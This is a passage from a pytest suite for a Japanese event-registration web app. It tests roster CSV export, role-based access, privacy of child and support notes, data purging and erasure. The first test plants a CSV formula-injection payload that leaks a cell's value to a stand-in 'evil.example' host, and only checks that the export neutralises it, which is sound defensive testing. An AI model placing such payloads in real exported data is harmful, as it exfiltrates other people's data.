    session_id = await upcoming(db, account.org_id, venue)
    await registered(client, session_id, name='=HYPERLINK("https://evil.example/?leak="&F2,"詳細")',
                     email="mallory@example.jp")

    answer = await client.get(f"/organize/sessions/{session_id}/registrations.csv")

    _header, row = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


async def test_support_with_limited_places_is_refused_once_fully_booked(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue,
                                accommodations=[AccommodationOffer(code="wheelchair_space", mode="always", capacity=1)])
    first = await register_form(client, session_id, **person(1), acc_wheelchair_space="1", consent_sensitive="1")

    second = await register_form(client, session_id, **person(2), acc_wheelchair_space="1", consent_sensitive="1")

    assert token_of(first)
    assert ja("This support is fully booked. Please contact the organizer.") in text_of(
        html(second).select_one("#err-accommodations-wheelchair_space"))
    assert await count(db, "registrations") == 1


async def test_to_arrange_lists_open_requests_soonest_deadline_first(client, db):
    account, venue = await organizer(client, db)
    later = await upcoming(db, account.org_id, venue, title="防災ワークショップ", starts_at=next_saturday(weeks=5),
                           accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    sooner = await upcoming(db, account.org_id, venue, title="子育て対話の場", starts_at=next_saturday(weeks=3),
                            childcare=childcare())
    other, other_venue = await organizer(client, db, "staff@toyama.example", org="toyama", signed_in=False)
    elsewhere = await upcoming(db, other.org_id, other_venue, title="よその会議",
                               accommodations=[AccommodationOffer(code="captioning", mode="on_request")])
    await registered(client, later, **person(1), accommodations=[{"code": "sign_language"}], consent_sensitive=True)
    await registered(client, sooner, **person(2), children=[{"age_months": 30}], consent_sensitive=True)
    await registered(client, elsewhere, **person(3), accommodations=[{"code": "captioning"}], consent_sensitive=True)

    page = html(await client.get("/organize/arrange"))

    linked = [a["href"] for a in page.select("tbody tr a")]
    assert linked == [f"/organize/sessions/{sooner}/registrations", f"/organize/sessions/{later}/registrations"]


# ---------------------------------------------------------------- who may see and change registrations

PAGE_ROUTES = {
    "roster page": ("GET", "/organize/sessions/{session}/registrations", None),
    "roster csv": ("GET", "/organize/sessions/{session}/registrations.csv", None),
    "check-in": ("POST", "/organize/sessions/{session}/registrations/{registration}/check-in", {}),
    "staff entry": ("POST", "/organize/sessions/{session}/registrations/new",
                    {"name": "電話 太郎", "phone": "076-220-0000", "mode": "in_person"}),
    "request answer": ("POST", "/organize/requests/{request}", {"status": "confirmed", "message": "手配しました"}),
}
API_ROUTES = {
    "roster api": ("GET", "/api/sessions/{session}/registrations", None),
    "request answer api": ("PATCH", "/api/accommodation-requests/{request}", {"status": "confirmed", "message": "手配済"}),
}
# who -> (page answer, API answer); None means "allowed" (the route's success code)
AUDIENCE = {
    "anonymous": (303, 401),
    "registrant with token": (303, 401),
    "organizer of another org": (404, 404),
    "facilitator of this org": (403, 403),
    "organizer of this org": (None, None),
    "admin": (None, None),
}


async def registration_world(client: Any, db: Any) -> dict[str, Any]:
    """A session of kanazawa with one registrant who asked for sign language, and people around it."""
    owner, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, owner.org_id, venue, capacity_in_person=5,
                                accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    token = (await registered(client, session_id, **person(1), accommodations=[{"code": "sign_language"}],
                              consent_sensitive=True))["token"]
    people = {
        "organizer of this org": owner,
        "organizer of another org": await make_account(db, "staff@toyama.example", org="toyama"),
        "facilitator of this org": await make_account(db, "facilitator@kanazawa.example", role="facilitator"),
        "admin": await make_account(db, "admin@taiwa.example", role="admin", org="taiwa-admin"),
    }
    request_id = (await db.fetch_one("select id from accommodation_requests"))[0]
    return {"session": session_id, "registration": await row_id(db, "person1@example.jp"), "request": request_id,
            "token": token, "people": people}


async def state_of(db: Any) -> tuple[Any, ...]:
    """What a refused request must leave untouched."""
    return (await count(db, "registrations"),
            (await db.fetch_one("select count(*) from registrations where checked_in_at is not null"))[0],
            tuple(tuple(row) for row in await db.fetch_all("select status, message from accommodation_requests")))


@pytest.mark.parametrize("who", AUDIENCE)
@pytest.mark.parametrize("route", PAGE_ROUTES)
async def test_registration_pages_are_for_the_sessions_organizers(client, db, route, who):
    world = await registration_world(client, db)
    if who in world["people"]:
        assert (await login(client, world["people"][who].email)).status_code == 200
    csrf = form_data(html(await client.get(f"/sessions/{world['session']}/register")).select_one("form"))["_csrf_token"]
    method, path, body = PAGE_ROUTES[route]
    path = path.format(**world)
    before = await state_of(db)

    if method == "GET":
        answer = await client.get(path, follow_redirects=False)
    else:
        answer = await client.post(path, data={"_csrf_token": csrf, **body}, follow_redirects=False)

    expected = AUDIENCE[who][0] or (200 if method == "GET" else 303)
    assert answer.status_code == expected, answer.text[:300]
    if expected == 303 and AUDIENCE[who][0] == 303:
        assert answer.headers["location"].startswith("/organize/login")
    if AUDIENCE[who][0] is not None:
        assert await state_of(db) == before


@pytest.mark.parametrize("who", AUDIENCE)
@pytest.mark.parametrize("route", API_ROUTES)
async def test_registration_api_is_for_the_sessions_organizers(client, db, route, who):
    world = await registration_world(client, db)
    headers = {}
    if who in world["people"]:
        headers["Authorization"] = f"Bearer {await token_for(db, world['people'][who])}"
    elif who == "registrant with token":
        headers["Authorization"] = f"Bearer {world['token']}"
    method, path, body = API_ROUTES[route]
    before = await state_of(db)

    answer = await client.request(method, path.format(**world), json=body, headers=headers)

    assert answer.status_code == (AUDIENCE[who][1] or 200), answer.text[:300]
    if AUDIENCE[who][1] is not None:
        assert "error" in answer.json()
        assert await state_of(db) == before


# ---------------------------------------------------------------- privacy

async def test_children_and_support_notes_stay_out_of_public_pages_and_the_public_api(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare(),
                                accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    token = (await registered(client, session_id, **person(1), children=[{"age_months": 40, "notes": CHILD_NOTE}],
                              accommodations=[{"code": "sign_language", "note": SUPPORT_NOTE}],
                              consent_sensitive=True))["token"]

    public_page = await client.get(f"/sessions/{session_id}")
    public_api = await client.get(f"/api/sessions/{session_id}")
    own = (await client.get(f"/api/registrations/{token}")).json()
    own_page = await client.get(f"/r/{token}")

    for answer in (public_page, public_api, own_page):
        assert answer.status_code == 200
        assert CHILD_NOTE not in answer.text and SUPPORT_NOTE not in answer.text
    assert [set(child) for child in own["children"]] == [{"age_months", "status"}]
    assert "note" not in own["accommodations"][0] and "notes" not in str(own)
    assert "name" not in own and "email" not in own


async def test_organizer_sees_the_notes_in_roster_and_api(client, db):
    account, venue = await organizer(client, db)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare(),
                                accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    await registered(client, session_id, **person(1), children=[{"age_months": 40, "notes": CHILD_NOTE}],
                     accommodations=[{"code": "sign_language", "note": SUPPORT_NOTE}], consent_sensitive=True)

    roster = html(await client.get(f"/organize/sessions/{session_id}/registrations"))
    api = await client.get(f"/api/sessions/{session_id}/registrations",
                           headers={"Authorization": f"Bearer {await token_for(db, account)}"})

    row = text_of(roster.select_one("#roster tbody tr"))
    assert CHILD_NOTE in row
    assert SUPPORT_NOTE in text_of(roster.select_one("#requests tbody"))
    [entry] = api.json()
    assert entry["children"][0]["notes"] == CHILD_NOTE and entry["accommodations"][0]["note"] == SUPPORT_NOTE
    assert entry["email"] == "person1@example.jp"


async def test_registrant_page_shows_only_its_own_registration(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=1, childcare=childcare())
    first = (await registered(client, session_id, **person(1), children=[{"age_months": 40}],
                              consent_sensitive=True))["token"]
    second = (await registered(client, session_id, **person(2)))["token"]

    first_page, second_page = await client.get(f"/r/{first}"), await client.get(f"/r/{second}")

    assert status_on(first_page)[0] == "confirmed" and len(list_items(first_page, ja("Childcare"))) == 1
    assert status_on(second_page)[0] == "waitlisted" and list_items(second_page, ja("Childcare")) == []
    assert f"/r/{first}" not in second_page.text


# ---------------------------------------------------------------- the registration API

async def test_api_registration_answers_confirmed_then_waitlisted_with_position(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=1, childcare=childcare(places=1))

    first = await api_register(client, session_id, **person(1), children=[{"age_months": 30}], consent_sensitive=True)
    second = await api_register(client, session_id, **person(2), children=[{"age_months": 30}], consent_sensitive=True)

    assert first.status_code == 201 and second.status_code == 201
    assert len(first.json()["token"]) >= 22  # 128 bits in URL-safe base64
    assert (first.json()["status"], first.json()["childcare_status"]) == ("confirmed", "confirmed")
    assert "position" not in first.json()
    assert (second.json()["status"], second.json()["position"], second.json()["childcare_status"]) == (
        "waitlisted", 1, "waitlisted")
    again = (await client.get(f"/api/registrations/{second.json()['token']}")).json()
    assert (again["status"], again["position"], again["childcare_status"]) == ("waitlisted", 1, "waitlisted")


async def test_api_cancel_promotes_the_first_waitlisted(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, capacity_in_person=1)
    first = await registered(client, session_id, **person(1))
    second = await registered(client, session_id, **person(2))

    cancelled = await client.delete(f"/api/registrations/{first['token']}")
    twice = await client.delete(f"/api/registrations/{first['token']}")

    assert cancelled.status_code == 200 and cancelled.json()["status"] == "cancelled"
    assert twice.status_code == 200 and twice.json()["status"] == "cancelled"
    promoted = (await client.get(f"/api/registrations/{second['token']}")).json()
    assert promoted["status"] == "confirmed" and "position" not in promoted
    assert len(await outbox(db, "promoted")) == 1


@pytest.mark.parametrize(("body", "field"), [
    pytest.param({"name": "  ", "email": "someone@example.jp", "mode": "in_person"}, "name", id="blank name"),
    pytest.param({"email": "someone@example.jp", "mode": "in_person"}, "name", id="no name"),
    pytest.param({"name": "山田 花子", "email": "not-an-email"}, "email", id="bad email"),
    pytest.param({"name": "山田 花子", "email": "someone@example.jp", "mode": "by_carrier_pigeon"}, "mode",
                 id="unknown mode"),
])
async def test_api_refuses_an_invalid_registration_naming_the_field(client, db, body, field):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue)

    answer = await api_register(client, session_id, **body)

    assert answer.status_code == 422
    assert field in answer.json()["error"]["fields"]
    assert await count(db, "registrations") == 0


async def test_api_registration_for_a_draft_session_is_not_found(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, status="draft")

    answer = await api_register(client, session_id, **person(1))

    assert answer.status_code == 404
    assert await count(db, "registrations") == 0


# ---------------------------------------------------------------- retention and the registrant's own deletion

async def test_purge_removes_sensitive_details_and_keeps_the_totals(client, db, app):
    account, venue = await organizer(client, db)
    start = datetime.now(TOKYO).replace(tzinfo=None, minute=0, second=0, microsecond=0) - timedelta(days=60)
    session_id = await make_session(db, account.org_id, venue, starts_at=start, childcare=childcare(),
                                    accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    state = app.litestar.state
    await registration.register(
        db, session_id, RegistrationInput(
            name="山田 花子", email="hanako@example.jp", consent_sensitive=True,
            children=[ChildInput(age_months=30, notes=CHILD_NOTE)],
            accommodations=[AccommodationRequestInput(code="sign_language", note=SUPPORT_NOTE)]),
        notify=state.notify, derive_token=state.derive_token, now=past(70))

    purged = await purge_sensitive(db, 30)

    assert purged == (1, 2)
    assert await count(db, "registration_children") == 0 and await count(db, "accommodation_requests") == 0
    page = html(await client.get(f"/organize/sessions/{session_id}/registrations"))
    assert CHILD_NOTE not in page.get_text() and SUPPORT_NOTE not in page.get_text()
    bands = [text_of(row.td) for row in page.select("#childcare-totals ~ table tbody tr")]
    assert bands == ["0", "1", "0", "0"]
    [support] = [text_of(li) for li in page.select("#arrange-title ~ ul li")]
    assert ja_plural("%(num)d request", "%(num)d requests", 1) in support
    assert await purge_sensitive(db, 30) == (0, 0)


async def test_purge_leaves_sessions_within_the_retention_period_alone(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare())
    await registered(client, session_id, **person(1), children=[{"age_months": 30, "notes": CHILD_NOTE}],
                     consent_sensitive=True)

    assert await purge_sensitive(db, 30) == (0, 0)
    assert await count(db, "registration_children") == 1


async def test_registrant_can_delete_their_own_details(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue, childcare=childcare(),
                                accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    token = (await registered(client, session_id, name="山田 花子", email="hanako@example.jp", phone="076-000-0000",
                              children=[{"age_months": 40, "notes": CHILD_NOTE}],
                              accommodations=[{"code": "sign_language", "note": SUPPORT_NOTE}],
                              consent_sensitive=True))["token"]

    step = await client.get(f"/r/{token}/erase")
    assert step.status_code == 200 and await count(db, "registrations") == 1
    form = html(step).select_one(f'form[action="/r/{token}/erase"]')
    done = await client.post(form["action"], data=form_data(form))

    assert done.status_code == 200
    row = await db.fetch_one("select name, email, phone, status from registrations")
    assert tuple(row) == ("", "", "", "cancelled")
    assert (await db.fetch_one("select notes from registration_children"))[0] == ""
    assert (await db.fetch_one("select note from accommodation_requests"))[0] == ""
    assert ja("Your details have been deleted.") in text_of(html(await client.get(f"/r/{token}")).select_one("main"))


# ---------------------------------------------------------------- reminders

async def test_reminder_is_queued_once_for_each_confirmed_registrant_with_email(client, db, app):
    account, venue = await organizer(client, db, signed_in=False)
    soon = datetime.now(TOKYO).replace(tzinfo=None, second=0, microsecond=0) + timedelta(hours=20)
    session_id = await make_session(db, account.org_id, venue, starts_at=soon, capacity_in_person=3)
    await registered(client, session_id, **person(1))
    await registered(client, session_id, **person(2))
    await registered(client, session_id, name="電話 太郎", phone="076-220-0000")
    await registered(client, session_id, **person(4))  # waitlisted
    notify = app.litestar.state.notify

    first_round = await queue_reminders(db, notify)
    second_round = await queue_reminders(db, notify)

    assert (first_round, second_round) == (2, 0)
    reminders = await outbox(db, "reminder")
    assert sorted(row["to_address"] for row in reminders) == ["person1@example.jp", "person2@example.jp"]


# ---------------------------------------------------------------- the online link

async def test_online_link_is_shown_only_to_confirmed_online_registrants_near_the_start(client, db):
    account, venue = await organizer(client, db, signed_in=False)
    link = "https://meet.example.jp/taiwa-secret-room"
    soon = datetime.now(TOKYO).replace(tzinfo=None, second=0, microsecond=0) + timedelta(hours=3)
    near = await make_session(db, account.org_id, venue, starts_at=soon, format="hybrid", capacity_online=1,
                              online_url=link)
    later = await upcoming(db, account.org_id, venue, format="hybrid", capacity_online=5, online_url=link)
    online = (await registered(client, near, **person(1), mode="online"))["token"]
    waiting = (await registered(client, near, **person(2), mode="online"))["token"]
    in_person = (await registered(client, near, **person(3), mode="in_person"))["token"]
    too_early = (await registered(client, later, **person(4), mode="online"))["token"]

    def shows_link(page: Any) -> bool:
        return html(page).select_one(f'a[href="{link}"]') is not None

    assert shows_link(await client.get(f"/r/{online}"))
    for token in (waiting, in_person, too_early):
        assert not shows_link(await client.get(f"/r/{token}"))
    assert link not in (await client.get(f"/sessions/{near}")).text


# ---------------------------------------------------------------- sensitive details in stored mail

class Inbox:
    """An aiosmtpd handler that keeps what it receives."""

    def __init__(self) -> None:
        self.messages: list[Any] = []

    async def handle_DATA(self, server: Any, session: Any, envelope: Any) -> str:  # noqa: N802 - aiosmtpd's name
        self.messages.append(envelope)
        return "250 OK"


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


async def test_purge_leaves_no_support_needs_in_stored_mail(client, db, app):
    account, venue = await organizer(client, db, signed_in=False)
    start = datetime.now(TOKYO).replace(tzinfo=None, minute=0, second=0, microsecond=0) - timedelta(days=60)
    session_id = await make_session(db, account.org_id, venue, starts_at=start, childcare=childcare(),
                                    accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    state = app.litestar.state
    await registration.register(
        db, session_id, RegistrationInput(
            name="山田 花子", email="hanako@example.jp", consent_sensitive=True,
            children=[ChildInput(age_months=30)], accommodations=[AccommodationRequestInput(code="sign_language")]),
        notify=state.notify, derive_token=state.derive_token, now=past(70))
    support = ja(ACCOMMODATIONS["sign_language"])
    assert any(support in row["body"] for row in await db.fetch_all("select body from outbox"))

    await purge_sensitive(db, 30)

    assert not any(support in row["body"] for row in await db.fetch_all("select body from outbox"))


async def test_erasing_ones_details_leaves_no_delivered_mail_about_them(client, db, settings):
    account, venue = await organizer(client, db, signed_in=False)
    session_id = await upcoming(db, account.org_id, venue,
                                accommodations=[AccommodationOffer(code="sign_language", mode="on_request")])
    token = (await registered(client, session_id, name="山田 花子", email="hanako@example.jp",
                              accommodations=[{"code": "sign_language"}], consent_sensitive=True))["token"]
    inbox, port = Inbox(), free_port()
    controller = Controller(inbox, hostname="127.0.0.1", port=port)
    controller.start()
    try:
        assert await mail.deliver_due(db, f"smtp://127.0.0.1:{port}", "Taiwa <no-reply@taiwa.example>",
                                      secret=settings.secret) == 1
    finally:
        controller.stop()
    assert len(inbox.messages) == 1

    step = await client.get(f"/r/{token}/erase")
    await client.post(f"/r/{token}/erase", data=form_data(html(step).select_one(f'form[action="/r/{token}/erase"]')))

    delivered = await db.fetch_all("select to_address, body from outbox where sent_at is not null")
    assert not any("hanako@example.jp" in row["to_address"] or "山田 花子" in row["body"] for row in delivered)
